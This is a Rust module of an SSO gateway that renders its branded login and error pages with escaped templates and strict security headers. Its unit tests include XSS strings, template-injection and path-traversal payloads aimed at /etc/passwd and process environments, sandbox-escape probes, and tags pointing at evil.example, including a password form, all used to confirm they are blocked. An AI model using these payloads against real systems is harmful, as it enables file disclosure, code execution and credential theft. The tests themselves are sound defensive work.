//! The gateway's own pages: templates with automatic escaping, in the reader's language, and the
//! headers that keep them safe.

use super::codes::NARROWER;
use super::templates::{self, TemplateError};
use super::texts::{Override, TextError, Texts};
use super::{Audience, Problem, Reader, Response};
use crate::config::{Branding, Logo, Palette};
use axum::body::Body;
use bytes::Bytes;
use http::{HeaderValue, StatusCode, header};
use minijinja::{Environment, Value, context};
use std::fmt;
use std::sync::Arc;

/// The one style sheet, served at `{prefix}/style.css` by [`Pages::style`].
const STYLE: &str = include_str!("templates/style.css");

/// The icon in the browser's tab, served at `{prefix}/icon.svg` by [`Pages::icon`]. Without one of
/// their own, our pages would make the browser ask the upstream for `/favicon.ico`.
const ICON: &str = include_str!("templates/icon.svg");

/// Why the pages cannot be shown.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// A language's file or a message of the configuration.
    #[error(transparent)]
    Text(#[from] TextError),
    /// A template.
    #[error(transparent)]
    Template(#[from] TemplateError),
}

/// Everything that is wrong with `[branding]`; at least one thing.
#[derive(Debug)]
pub struct Mistakes(Vec<Error>);

impl Mistakes {
    /// Each of them.
    pub fn iter(&self) -> impl Iterator<Item = &Error> {
        self.0.iter()
    }
}

impl<E: Into<Error>> From<Vec<E>> for Mistakes {
    fn from(errors: Vec<E>) -> Self {
        Self(errors.into_iter().map(Into::into).collect())
    }
}

impl std::error::Error for Mistakes {}

impl fmt::Display for Mistakes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let all: Vec<String> = self.iter().map(Error::to_string).collect();
        f.write_str(&all.join("; "))
    }
}

/// Where a page's forms may lead. Browsers apply the rule to redirects after the form too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FormTargets {
    /// There is no form.
    Nowhere,
    /// Only the gateway.
    Gateway,
    /// The gateway, which then redirects to a provider.
    Provider,
}

/// Renders pages. Built once from the configuration.
#[derive(Debug)]
pub struct Pages {
    texts: Arc<Texts>,
    /// With the templates of the configuration.
    own: Environment<'static>,
    /// What serves should one of them fail.
    built_in: Environment<'static>,
    prefix: String,
    http_targets: bool,
    style: Bytes,
    custom_style: Option<Bytes>,
    logo: Option<Logo>,
    footer: Option<String>,
}

impl Pages {
    /// The built-in pages for a gateway whose own addresses begin with `prefix`.
    ///
    /// # Errors
    ///
    /// If a built-in template or text has a mistake.
    pub fn new(prefix: &str) -> Result<Self, Mistakes> {
        Self::branded(prefix, &Branding::default(), "Bitbucket", &mut Vec::new())
    }

    /// The pages that `[branding]` makes. Every template is tried in every language. `product` is
    /// what stands behind the gateway; what is odd and works goes to `warnings`.
    ///
    /// # Errors
    ///
    /// Every mistake of the languages and messages; if there is none, of the templates.
    pub fn branded(
        prefix: &str,
        branding: &Branding,
        product: &str,
        warnings: &mut Vec<String>,
    ) -> Result<Self, Mistakes> {
        let more: Vec<_> = branding
            .translations
            .iter()
            .map(|it| {
                (
                    it.name.as_str(),
                    it.path.display().to_string(),
                    it.text.as_str(),
                )
            })
            .collect();
        let mut texts = Texts::new(&more, &branding.languages, warnings)?.for_product(product);
        texts.replace(overrides(branding), &NARROWER)?;
        let texts = Arc::new(texts);
        let built_in = templates::environment(&texts, &[])?;
        let own = templates::environment(&texts, &branding.templates)?;
        let mut style = branding.style.clone().unwrap_or_else(|| STYLE.to_owned());
        style.push_str(&colors(&branding.light, &branding.dark));
        let pages = Self {
            texts,
            own,
            built_in,
            prefix: prefix.to_owned(),
            http_targets: false,
            style: style.into(),
            custom_style: branding.css.clone().map(Bytes::from),
            logo: branding.logo.clone(),
            footer: branding.footer.clone(),
        };
        for tag in pages.texts.tags() {
            templates::try_all(&pages.own, &branding.templates, &pages.frame(tag, "sample"))?;
        }
        Ok(pages)
    }

    /// Lets forms lead to `http` addresses beyond 127.0.0.1 and localhost too: for a provider with
    /// `insecure_http` or on `[::1]`, or a `sign_out.redirect_to` on `http`. Without it the browser
    /// would stop the redirect there without a word.
    #[must_use]
    pub fn with_http_targets(mut self, allowed: bool) -> Self {
        self.http_targets = allowed;
        self
    }

    /// Where the gateway's own addresses begin.
    #[must_use]
    pub fn prefix(&self) -> &str {
        &self.prefix
    }

    /// Renders a template by name, in the reader's language. Values are escaped by the engine;
    /// `request_id`, `prefix`, `language` and the branding are there without being passed.
    #[must_use]
    pub fn render(
        &self,
        reader: impl Into<Reader>,
        template: &str,
        status: StatusCode,
        forms: FormTargets,
        values: Value,
    ) -> Response {
        let reader = reader.into();
        let language = self.language(&reader);
        let frame = self.frame(language, reader.id().as_str());
        let values = context! { ..values, ..frame };
        let render = |engine: &Environment<'static>| {
            templates::rendered(engine, template, values.clone()).inspect_err(|error| {
                let error: &dyn std::error::Error = error;
                tracing::error!(template, error, "a page could not be rendered");
            })
        };
        // The console in its own frame: whoever broke the pages' may need it to see why.
        let first = match templates::is_own(template) {
            true => &self.own,
            false => &self.built_in,
        };
        let (status, text) = match render(first).or_else(|_| render(&self.built_in)) {
            Ok(text) => (status, text),
            Err(_) => {
                let sorry = self.texts.say(language, "page.broken", &|_| None);
                (StatusCode::INTERNAL_SERVER_ERROR, sorry.unwrap_or_default())
            }
        };
        let mut response = Response::new(Body::from(text));
        *response.status_mut() = status;
        let headers = response.headers_mut();
        headers.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("text/html; charset=utf-8"),
        );
        if let Ok(language) = HeaderValue::from_str(language) {
            headers.insert(header::CONTENT_LANGUAGE, language);
        }
        // Nothing keeps these pages; this is for who looks at them all the same.
        headers.insert(header::VARY, HeaderValue::from_static("accept-language"));
        protect(headers, forms, self.http_targets);
        response
    }

    /// A text in the reader's language, for what is no page.
    #[must_use]
    pub fn text(&self, reader: impl Into<Reader>, key: &str) -> String {
        let language = self.language(&reader.into());
        let text = self.texts.say(language, key, &|_| None);
        text.unwrap_or_else(|| key.to_owned())
    }

    /// The tag of the language that this reader gets.
    fn language(&self, reader: &Reader) -> &str {
        let offered = self.texts.tags();
        let chosen = reader.choose(&offered);
        offered.get(chosen).copied().unwrap_or("en")
    }

    /// What every page has.
    fn frame(&self, language: &str, request_id: &str) -> Value {
        context! {
            language,
            direction => self.texts.direction(language),
            prefix => self.prefix.as_str(),
            request_id,
            brand => context! {
                logo => self.logo.is_some(),
                css => self.custom_style.is_some(),
                footer => self.footer.as_deref(),
            },
        }
    }

    /// The style sheet, with the colours of the configuration.
    #[must_use]
    pub fn style(&self) -> Response {
        asset("text/css; charset=utf-8", self.style.clone())
    }

    /// `branding.css_file`, served at `{prefix}/custom.css`; it comes after ours, and wins.
    #[must_use]
    pub fn custom_style(&self) -> Option<Response> {
        let style = self.custom_style.clone()?;
        Some(asset("text/css; charset=utf-8", style))
    }

    /// `branding.logo_file`, served at `{prefix}/logo`.
    #[must_use]
    pub fn logo(&self) -> Option<Response> {
        let logo = self.logo.as_ref()?;
        let mut response = asset(logo.media_type, Bytes::from(logo.bytes.clone()));
        // Drawing programs write styles into their images; as an image, that is all they may do.
        response.headers_mut().insert(
            header::CONTENT_SECURITY_POLICY,
            HeaderValue::from_static(
                "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'; sandbox",
            ),
        );
        Some(response)
    }

    /// The icon of our pages.
    #[must_use]
    pub fn icon(&self) -> Response {
        asset("image/svg+xml", Bytes::from_static(ICON.as_bytes()))
    }

    /// Answers a problem, for the eyes that will read it. Pass the request's context: an id alone
    /// gets the page in the first language.
    #[must_use]
    pub fn problem(
        &self,
        problem: &Problem,
        audience: Audience,
        reader: impl Into<Reader>,
    ) -> Response {
        let reader = reader.into();
        let mut response = match audience {
            Audience::Person => {
                let told = self.texts.tell(self.language(&reader), problem);
                self.render(
                    &reader,
                    "error.html",
                    problem.status,
                    FormTargets::Nowhere,
                    context! {
                        title => told.title,
                        message => told.message,
                        code => problem.code,
                        causes => told.causes,
                        actions => told.actions.iter().map(|(label, href)| context! { label, href }).collect::<Vec<_>>(),
                    },
                )
            }
            // Programs compare what they read: always English.
            Audience::Machine => machine_answer(problem, &self.texts, &reader),
        };
        for (name, value) in &problem.headers {
            response.headers_mut().append(name.clone(), value.clone());
        }
        response
    }
}

/// Writes what one starts from: the built-in templates, the style sheet and the English texts, by
/// file name.
pub fn exported() -> impl Iterator<Item = (&'static str, &'static str)> {
    let english = super::texts::BUILT_IN
        .into_iter()
        .filter(|(tag, _)| *tag == "en")
        .map(|(_, text)| ("en.toml", text));
    templates::BUILT_IN
        .into_iter()
        .chain([("style.css", STYLE)])
        .chain(english)
}

/// The texts that the configuration says another way.
fn overrides(branding: &Branding) -> Vec<Override> {
    let of = |key: &str, language: Option<&String>, text: Option<&String>| {
        text.map(|text| Override {
            key: key.to_owned(),
            language: language.cloned(),
            text: text.clone(),
        })
    };
    let mut all = Vec::new();
    all.extend(of("page.login.title", None, branding.title.as_ref()));
    all.extend(of(
        "action.sign_in_with",
        None,
        branding.button_text.as_ref(),
    ));
    for message in &branding.messages {
        let (code, language) = (&message.code, message.language.as_ref());
        let title = format!("problem.{code}.title");
        all.extend(of(&title, language, message.title.as_ref()));
        let text = format!("problem.{code}.message");
        all.extend(of(&text, language, message.message.as_ref()));
    }
    all
}

/// The colours of the configuration, over those of the style sheet.
fn colors(light: &Palette, dark: &Palette) -> String {
    let rules = |palette: &Palette| {
        let colors = palette.named();
        let rules = colors.map(|(name, color)| format!("--{name}:{color};"));
        rules.collect::<String>()
    };
    let (light, dark) = (rules(light), rules(dark));
    let mut css = String::new();
    if !light.is_empty() {
        // In a query of its own, or it would also win in the dark.
        css.push_str(&format!(
            "\n@media not (prefers-color-scheme: dark){{:root{{{light}}}}}\n"
        ));
    }
    if !dark.is_empty() {
        css.push_str(&format!(
            "\n@media (prefers-color-scheme: dark){{:root{{{dark}}}}}\n"
        ));
    }
    css
}

/// Kept by browsers for a few minutes only, so that an upgrade shows. An image opened by itself is a
/// document, which may do nothing.
fn asset(content_type: &'static str, content: Bytes) -> Response {
    let mut response = Response::new(Body::from(content));
    let headers = response.headers_mut();
    for (name, value) in [
        (header::CONTENT_TYPE, content_type),
        (header::CACHE_CONTROL, "public, max-age=300"),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
        (
            header::CONTENT_SECURITY_POLICY,
            "default-src 'none'; frame-ancestors 'none'; sandbox",
        ),
    ] {
        headers.insert(name, HeaderValue::from_static(value));
    }
    response
}

/// Bitbucket's own error shape, so that its clients show our message.
fn machine_answer(problem: &Problem, texts: &Texts, reader: &Reader) -> Response {
    let told = texts.tell("en", problem);
    let id = reader.id();
    let body = serde_json::json!({
        "errors": [{
            "context": null,
            "message": format!("{} {}", told.title, told.message),
            "exceptionName": format!("portcullis.{}", problem.code),
        }],
        "request_id": id.as_str(),
    });
    let mut response = Response::new(Body::from(body.to_string()));
    *response.status_mut() = problem.status;
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    headers.insert(
        header::X_CONTENT_TYPE_OPTIONS,
        HeaderValue::from_static("nosniff"),
    );
    response
}

/// Sends the browser on with a `GET`, whatever it came with (RFC 9110 §15.4.4): a 307 would post a
/// form with secrets to the next address. Nothing of it is cached or told as `Referer`, because
/// the address of a callback carries a code.
#[must_use]
pub fn see_other(location: &str) -> Response {
    let mut response = Response::new(Body::empty());
    *response.status_mut() = StatusCode::SEE_OTHER;
    let headers = response.headers_mut();
    // Return paths and parsed URLs are visible ASCII; anything else goes to the start page.
    let location =
        HeaderValue::from_str(location).unwrap_or_else(|_| HeaderValue::from_static("/"));
    headers.insert(header::LOCATION, location);
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    headers.insert(
        header::REFERRER_POLICY,
        HeaderValue::from_static("no-referrer"),
    );
    response
}

/// The headers of every page: nothing from elsewhere, no frame, no cache, and no address told to
/// others.
fn protect(headers: &mut http::HeaderMap, forms: FormTargets, http_targets: bool) {
    // The grammar of a source has no IPv6 address (CSP Level 3, §2.3.1 `host-part`).
    let policy = match (forms, http_targets) {
        (FormTargets::Nowhere, _) => {
            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'none'; frame-ancestors 'none'; base-uri 'none'"
        }
        (FormTargets::Gateway, _) => {
            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
        }
        (FormTargets::Provider, false) => {
            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self' https: http://localhost:* http://127.0.0.1:*; frame-ancestors 'none'; base-uri 'none'"
        }
        (FormTargets::Provider, true) => {
            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self' https: http:; frame-ancestors 'none'; base-uri 'none'"
        }
    };
    // A page with `no-referrer` posts its forms with `Origin: null` (Fetch, "append a request
    // `Origin` header"), so pages with forms say `same-origin` or their own posts look foreign. A
    // page without forms may stand at a callback's address, which nobody behind us should learn.
    let referrer = match forms {
        FormTargets::Nowhere => "no-referrer",
        FormTargets::Gateway | FormTargets::Provider => "same-origin",
    };
    for (name, value) in [
        (header::CONTENT_SECURITY_POLICY, policy),
        (header::CACHE_CONTROL, "no-store"),
        (header::REFERRER_POLICY, referrer),
        (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
        (header::X_FRAME_OPTIONS, "DENY"),
    ] {
        headers.insert(name, HeaderValue::from_static(value));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::web::RequestId;

    const HOSTILE: &str = "<script>alert(1)</script>\"'>&{{ prefix }}{% raw %}";

    fn pages() -> Pages {
        Pages::new("/sso").unwrap()
    }

    fn text(response: Response) -> String {
        let body = futures_util::FutureExt::now_or_never(http_body_util::BodyExt::collect(
            response.into_body(),
        ));
        String::from_utf8(body.unwrap().unwrap().to_bytes().to_vec()).unwrap()
    }

    fn asks(language: &'static str) -> Reader {
        let mut headers = http::HeaderMap::new();
        headers.insert(header::ACCEPT_LANGUAGE, HeaderValue::from_static(language));
        Reader::new(&headers, RequestId::fresh())
    }

    #[test]
    fn nothing_that_is_shown_becomes_markup() {
        let pages = pages();
        for (template, _) in templates::BUILT_IN {
            let samples = templates::samples(template, HOSTILE);
            assert!(
                template == "layout.html" || !samples.is_empty(),
                "{template} needs values in templates.rs"
            );
            for sample in samples {
                for language in ["en", "de"] {
                    let sample = context! { message => "page.backdoor.busy", ..sample.clone() };
                    let sample = if template == "backdoor.html" {
                        sample
                    } else {
                        context! { ..sample }
                    };
                    let response = pages.render(
                        asks(language),
                        template,
                        StatusCode::OK,
                        FormTargets::Gateway,
                        sample,
                    );
                    assert_eq!(response.status(), 200, "{template}");
                    assert_eq!(response.headers()[header::CONTENT_LANGUAGE], language);
                    let page = text(response);
                    assert!(page.starts_with("<!doctype html>"), "{page}");
                    assert!(page.contains(&format!("<html lang=\"{language}\" dir=\"ltr\">")));
                    for bad in ["<script", "alert(1)</", "\"'>", "style=", "http:", "https:"] {
                        assert!(!page.contains(bad), "{bad} is in {template}:\n{page}");
                    }
                }
            }
        }
    }

    #[test]
    fn a_problem_shows_its_request_id_and_keeps_its_detail_to_itself() {
        let id = RequestId::fresh();
        let problem = Problem::told(StatusCode::BAD_GATEWAY, "identity_not_accepted")
            .with_code("some_code")
            .cause("cause.clock")
            .action("action.continue", "/next?a=b&c=d")
            .detail("the secret reason");
        for audience in [Audience::Person, Audience::Machine] {
            let response = pages().problem(&problem, audience, &id);
            assert_eq!(response.status(), StatusCode::BAD_GATEWAY);
            let text = text(response);
            assert!(text.contains(id.as_str()) && text.contains("some_code"));
            assert!(!text.contains("the secret reason"));
        }
    }

    #[test]
    fn a_page_loads_nothing_from_elsewhere_and_stands_in_no_frame() {
        for (forms, http, want) in [
            (FormTargets::Nowhere, false, "form-action 'none';"),
            (FormTargets::Gateway, true, "form-action 'self';"),
            (FormTargets::Provider, false, " http://127.0.0.1:*;"),
            (
                FormTargets::Provider,
                true,
                "form-action 'self' https: http:;",
            ),
        ] {
            let pages = pages().with_http_targets(http);
            let page = pages.render(
                &RequestId::fresh(),
                "signed-out.html",
                StatusCode::OK,
                forms,
                context! {},
            );
            let policy = page.headers()[header::CONTENT_SECURITY_POLICY]
                .to_str()
                .unwrap();
            assert!(policy.starts_with("default-src 'none'; style-src 'self';"));
            assert!(policy.contains("frame-ancestors 'none'"));
            assert!(policy.contains(want), "{policy}");
            assert!(!policy.contains("unsafe"), "{policy}");
            assert!(!policy.contains('['), "no browser reads {policy}");
            assert_eq!(page.headers()[header::CACHE_CONTROL], "no-store");
        }
    }

    #[test]
    fn a_redirect_is_a_get_that_nobody_keeps() {
        let response = see_other("/a?b=c");
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        assert_eq!(response.headers()[header::LOCATION], "/a?b=c");
        assert_eq!(response.headers()[header::CACHE_CONTROL], "no-store");
        let odd = see_other("/a\r\nX: y");
        assert_eq!(odd.headers()[header::LOCATION], "/");
    }

    #[test]
    fn a_page_speaks_the_readers_language_and_a_program_reads_english() {
        let problem =
            Problem::told(StatusCode::FORBIDDEN, "unverified_email").with("provider", "P");
        let person = text(pages().problem(&problem, Audience::Person, asks("de-CH, en;q=0.5")));
        assert!(
            person.contains("Ihre E-Mail-Adresse ist nicht bestätigt"),
            "{person}"
        );
        let program = text(pages().problem(&problem, Audience::Machine, asks("de")));
        assert!(
            program.contains("Your e-mail address is not verified"),
            "{program}"
        );
        let stranger = text(pages().problem(&problem, Audience::Person, asks("tlh")));
        assert!(
            stranger.contains("Your e-mail address is not verified"),
            "{stranger}"
        );
    }

    fn branded(branding: &Branding) -> Result<Pages, Mistakes> {
        Pages::branded("/sso", branding, "Bitbucket", &mut Vec::new())
    }

    fn template(name: &str, text: &str) -> Branding {
        Branding {
            templates: vec![crate::config::Source {
                name: name.into(),
                path: format!("t/{name}").into(),
                text: text.into(),
            }],
            ..Branding::default()
        }
    }

    #[track_caller]
    fn refused(name: &str, text: &str, want: &str) {
        let error = branded(&template(name, text)).unwrap_err().to_string();
        assert!(error.contains(want), "{error}");
    }

    #[test]
    fn every_broken_template_is_told_once() {
        for broken in ["{% if %}", "{{ nobody.has.this }}"] {
            let mut branding = template("login.html", broken);
            branding
                .templates
                .extend(template("error.html", broken).templates);
            let mistakes = branded(&branding).unwrap_err();
            let files: Vec<String> = mistakes.iter().map(Error::to_string).collect();
            assert_eq!(files.len(), 2, "{files:?}");
            assert!(
                files[0].starts_with("t/login.html:1") && files[1].starts_with("t/error.html:1")
            );
        }
        let layout = "{% block title %}{% endblock %}{{ nobody.has.this }}";
        assert_eq!(
            branded(&template("layout.html", layout))
                .unwrap_err()
                .iter()
                .count(),
            1
        );
    }

    #[test]
    fn a_template_that_does_not_render_is_refused_with_its_line() {
        refused("login.html", "a\n{% if %}", "t/login.html:2: ");
        refused("error.html", "a\n\n{{ mesage }}", "t/error.html:3: ");
        refused(
            "login.html",
            "{{ t('page.login.titel') }}",
            "there is no text \"page.login.titel\"",
        );
        refused(
            "sign-out.html",
            "{% include 'nowhere.html' %}",
            "t/sign-out.html:1: ",
        );
        refused(
            "loggin.html",
            "x",
            "t/loggin.html: no page has a template of this name",
        );
        refused(
            "console-frame.html",
            "x",
            "t/console-frame.html: no page has a template of this name",
        );
        refused(
            "login.html",
            "{% for a in range(9999) %}{% for b in range(9999) %}.{% endfor %}{% endfor %}",
            "t/login.html:1: ",
        );
        refused(
            "login.html",
            "{% for a in range(9999) %}{{ request_id * 10000 }}{% endfor %}",
            "t/login.html:0: failed to write output: the page is longer than 16 MiB",
        );
        refused("error.html", "{% include 'error.html' %}", "t/error.html:");
        refused("layout.html", "{{ 1/0 }}", "t/layout.html:1: ");
    }

    #[test]
    fn a_whole_page_can_be_replaced_and_cannot_loosen_the_policy() {
        let hostile = "<script src=\"https://evil.example/x.js\"></script><p>{{ username }}</p>";
        let pages = branded(&template("sign-out.html", hostile)).unwrap();
        let page = pages.render(
            asks("en"),
            "sign-out.html",
            StatusCode::OK,
            FormTargets::Provider,
            context! { username => "<b>", back => "/" },
        );
        let policy = page.headers()[header::CONTENT_SECURITY_POLICY].clone();
        assert!(
            policy
                .to_str()
                .unwrap()
                .starts_with("default-src 'none'; style-src 'self';")
        );
        assert!(text(page).ends_with("<p>&lt;b&gt;</p>"));
    }

    #[test]
    fn a_template_reaches_nothing_but_its_page() {
        for hostile in [
            "{% include '/etc/passwd' %}",
            "{% include '../../etc/passwd' %}",
            "{% extends 'file:///etc/passwd' %}",
            "{% import '/proc/self/environ' as e %}{{ e }}",
            "{{ ''.__class__.__mro__ }}",
            "{{ username.constructor }}",
            "{{ self.__init__() }}",
            "{{ t.__globals__ }}",
            "{{ environ }}",
            "{{ config.session.keys }}",
            "{{ texts }}",
            "{{ t('../en') }}",
            "{{ t(username) }}",
            "{{ env('HOME') }}",
            "{{ open('/etc/passwd') }}",
            "{{ username.system('id') }}",
            "{{ username|attr('__class__') }}",
            "{{ 'x' * 10000000000 }}",
            "{{ range(10000000000) }}",
            "{{ [1] * 10000000000 }}",
            "{% for a in range(99999) %}{{ username * 10000 }}{% endfor %}",
            "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
            "{% for a in range(9999) recursive %}{{ loop(range(9999)) }}{% endfor %}",
            "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
            "{% block a %}{{ self.a() }}{% endblock %}",
        ] {
            branded(&template("sign-out.html", hostile)).expect_err(hostile);
        }
    }

    #[test]
    fn a_careless_template_meets_the_same_policy() {
        let policy = |pages: &Pages, username: &str| {
            let values = context! { username, back => "/" };
            let forms = FormTargets::Gateway;
            let page = pages.render(asks("en"), "sign-out.html", StatusCode::OK, forms, values);
            assert_eq!(page.headers()[header::X_FRAME_OPTIONS], "DENY");
            let policy = page.headers()[header::CONTENT_SECURITY_POLICY].clone();
            (policy, text(page))
        };
        let (strict, _) = policy(&pages(), "ana");
        for careless in [
            "<p title={{ username }}>",
            "<script>var name = \"{{ username }}\"</script>",
            "<script>{{ username }}</script>",
            "<style>{{ username }}</style><p style=\"{{ username }}\">",
            "<a href=\"{{ username }}\">",
            "<a onclick=\"{{ username }}\">",
            "<iframe src=\"https://evil.example\"></iframe><base href=\"https://evil.example\">",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
            "<form action=\"https://evil.example\"><input name=\"password\"></form>",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "{{ username|safe }}",
            "{% autoescape false %}{{ username }}{% endautoescape %}",
        ] {
            let pages = branded(&template("sign-out.html", careless)).unwrap();
            let (found, _) = policy(&pages, "javascript:alert(1)");
            assert_eq!(found, strict, "{careless}");
        }
        // What a person is called is no template, also where a template shows it as it is.
        let pages = branded(&template("sign-out.html", "{{ username|safe }}")).unwrap();
        let (_, page) = policy(&pages, "{{ 7 * 7 }}{% include 'x' %}{username}");
        assert_eq!(page, "{{ 7 * 7 }}{% include 'x' %}{username}");
    }

    #[test]
    fn a_frame_of_the_house_cannot_hide_the_console() {
        let pages = branded(&template("layout.html", "<p>nothing</p>")).unwrap();
        let page = |name| {
            let values = context! { section => "overview", username => "ana", back => "/" };
            text(pages.render(
                asks("en"),
                name,
                StatusCode::OK,
                FormTargets::Gateway,
                values,
            ))
        };
        assert_eq!(page("sign-out.html"), "<p>nothing</p>");
        let console = page("console-frame.html");
        assert!(console.contains("sso/admin/sessions"), "{console}");
    }

    #[test]
    fn should_a_template_fail_after_all_the_built_in_one_serves() {
        let trap = "{% if username == 'trap' %}{{ username() }}{% endif %}own";
        let pages = branded(&template("sign-out.html", trap)).unwrap();
        let page = |username: &str| {
            let values = context! { username, back => "/" };
            let forms = FormTargets::Provider;
            text(pages.render(asks("en"), "sign-out.html", StatusCode::OK, forms, values))
        };
        assert_eq!(page("ana"), "own");
        assert!(page("trap").contains("You are signed in as trap."));
    }

    #[test]
    fn the_configuration_says_titles_buttons_and_errors_another_way() {
        let message = |language: Option<&str>, title: &str| crate::config::Message {
            code: "no_email".into(),
            language: language.map(str::to_owned),
            title: Some(title.into()),
            message: None,
        };
        let branding = Branding {
            title: Some("Welcome".into()),
            button_text: Some("Go to {provider}".into()),
            footer: Some("Example <Ltd>".into()),
            messages: vec![
                message(None, "No address at {provider}"),
                message(Some("de"), "Keine Adresse"),
            ],
            ..Branding::default()
        };
        let pages = branded(&branding).unwrap();
        let values = context! { next => "/", providers => [context! { id => "a", name => "A" }] };
        let forms = FormTargets::Provider;
        let page = text(pages.render(asks("en"), "login.html", StatusCode::OK, forms, values));
        for want in [
            "<h1>Welcome</h1>",
            "<span>Go to A</span>",
            "Example &lt;Ltd&gt;",
        ] {
            assert!(page.contains(want), "{want}: {page}");
        }
        let problem = Problem::told(StatusCode::FORBIDDEN, "no_email").with("provider", "P");
        let page = |language| text(pages.problem(&problem, Audience::Person, asks(language)));
        assert!(page("en").contains("<h1>No address at P</h1>"));
        assert!(page("de").contains("<h1>Keine Adresse</h1>"));
        assert!(page("de").contains("Tragen Sie dort eine"));
    }

    #[test]
    fn a_message_for_no_error_or_with_no_such_value_is_refused() {
        for (code, title, want) in [
            ("no_emial", "x", "no error has the code \"no_emial\""),
            ("no_email", "{pinned}", "has no value {pinned}"),
        ] {
            let branding = Branding {
                messages: vec![crate::config::Message {
                    code: code.into(),
                    language: None,
                    title: Some(title.into()),
                    message: None,
                }],
                ..Branding::default()
            };
            let error = branded(&branding).unwrap_err().to_string();
            assert!(error.contains(want), "{error}");
        }
    }

    #[test]
    fn a_logo_is_an_image_and_nothing_else() {
        let logo = Logo {
            media_type: "image/svg+xml",
            bytes: b"<svg/>".to_vec(),
        };
        let pages = branded(&Branding {
            logo: Some(logo),
            ..Branding::default()
        })
        .unwrap();
        let response = pages.logo().unwrap();
        let policy = response.headers()[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .unwrap();
        assert!(policy.starts_with("default-src 'none';") && policy.ends_with("sandbox"));
        assert_eq!(
            response.headers()[header::X_CONTENT_TYPE_OPTIONS],
            "nosniff"
        );
        assert!(super::tests::pages().logo().is_none());
    }
}
